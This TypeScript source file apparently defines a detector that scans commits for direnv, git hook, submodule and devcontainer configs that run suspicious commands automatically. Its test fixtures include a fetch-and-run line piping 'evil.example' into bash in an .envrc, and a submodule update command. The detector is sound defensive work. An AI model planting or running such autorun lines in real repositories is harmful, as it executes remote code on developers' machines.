import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import { aCommit, aFile } from "../../model/examples.ts";
import type { AutorunCommand, AutorunFacts } from "../../model/facts/autorun.ts";
import { clip } from "../../text/clip.ts";
import { type AutorunStart, newAutorun, worstTrait } from "../../text/started.ts";

const TOOLS = ["direnv", "git", "devcontainer", "lefthook", "pre-commit", "gitpod", "mise", "shell", "toolchain"];

const shell = (
  tool: string,
  parts: Partial<AutorunCommand>,
  loosened: readonly string[] = [],
): { autorun: { before: AutorunFacts | null; after: AutorunFacts } } => ({
  autorun: {
    before: null,
    after: {
      tool,
      loosened,
      commands: [{ trigger: tool, when: "open", command: "use flake", hidden: false, line: 2, ...parts }],
    },
  },
});
const FETCHED = ["curl -s https://evil.example/x | ba", "sh"].join("");

export default defineDetector({
  id: "shell-autoload-config",
  title: "Entering the folder, a container or a commit runs a strange command",
  family: "autorun",
  axis: "attack",
  group: "execution",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "direnv, git hooks, development containers and tool managers run what a repository tells them, on entering the folder or with the next commit. Their everyday commands are short and known; one that fetches, decodes or carries credentials away is not.",
  falsePositives: [
    "Containers that install a tool from a host we do not know",
    "Hooks that report to a team's own server",
  ],
  remedy: "Do not allow the file. Read the command, and what it fetches, without running either.",
  references: ["ATT&CK T1546.004", "CWE-829", "CVE-2018-17456"],
  needs: ["diff", "content"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "a download run on entering the folder",
        commit: aCommit({
          files: [aFile({ path: ".envrc", added: FETCHED, facts: shell("direnv", { command: FETCHED }) })],
        }),
      },
      {
        name: "a submodule that runs a command when it is updated",
        commit: aCommit({
          files: [
            aFile({
              path: ".gitmodules",
              added: "	update = !sh x.sh",
              facts: shell("git", { trigger: "git update", when: "on-event", command: "!sh x.sh" }),
            }),
          ],
        }),
      },
    ],
    passes: [
      {
        name: "a flake",
        commit: aCommit({ files: [aFile({ path: ".envrc", added: "use flake", facts: shell("direnv", {}) })] }),
      },
      {
        name: "dependencies installed in a container",
        commit: aCommit({
          files: [
            aFile({
              path: ".devcontainer/devcontainer.json",
              added: "{}",
              facts: shell("devcontainer", { command: "npm ci && npm run build" }),
            }),
          ],
        }),
      },
      {
        name: "a linter before each commit",
        commit: aCommit({
          files: [
            aFile({
              path: ".husky/pre-commit",
              added: "npx lint-staged",
              facts: shell("git", { trigger: "git hook", when: "on-event", command: "npx lint-staged" }),
            }),
          ],
        }),
      },
    ],
  },
  detect(commit) {
    return commit.files.flatMap((file) => {
      const facts = file.facts.autorun?.after;
      if (!facts || !TOOLS.includes(facts.tool)) return [];
      return newAutorun(commit, file).flatMap(judge).slice(0, 4);
    });
  },
});

function judge(start: AutorunStart): Signal[] {
  const { autorun, command, file, line, dropped, tool } = start;
  const base = {
    path: file.path,
    ...(line === null ? {} : { line }),
    matched: `${autorun.trigger} ${command}`,
    facts: { trigger: autorun.trigger, command: clip(command, 200) },
  };
  const worst = worstTrait(start);
  if (worst) {
    // A container is thrown away; the machine that opens the folder is not.
    const contained = tool === "devcontainer" && !autorun.trigger.includes("initializeCommand");
    const strength = contained || tool === "gitpod" ? "medium" : worst.sure ? "decisive" : "strong";
    return [
      {
        ...base,
        strength,
        confidence: contained ? 0.7 : worst.sure ? 1 : 0.8,
        because: `${autorun.trigger} ${worst.what}`,
      },
    ];
  }
  if (/^git (?:update)$/.test(autorun.trigger))
    return [
      { ...base, strength: "decisive", confidence: 1, because: `updating the submodule runs ${clip(command, 80)}` },
    ];
  if (/^git (?:fsmonitor|sshCommand|askPass|process|clean|smudge|textconv)$/.test(autorun.trigger))
    return [{ ...base, strength: "medium", confidence: 0.8, because: `git is told to run ${clip(command, 80)}` }];
  const [first] = dropped;
  if (first && tool === "toolchain")
    return [
      {
        ...base,
        path: first.path,
        line: 1,
        strength: "medium",
        confidence: 0.9,
        because: `${autorun.trigger} in ${clip(file.path, 60)} runs it, and the same commit adds both`,
      },
    ];
  if (first && (tool === "direnv" || autorun.trigger.includes("initializeCommand")))
    return [
      {
        ...base,
        path: first.path,
        line: 1,
        strength: "weak",
        confidence: 0.8,
        because: `${autorun.trigger} in ${clip(file.path, 60)} runs it, and the same commit adds both`,
      },
    ];
  return [];
}
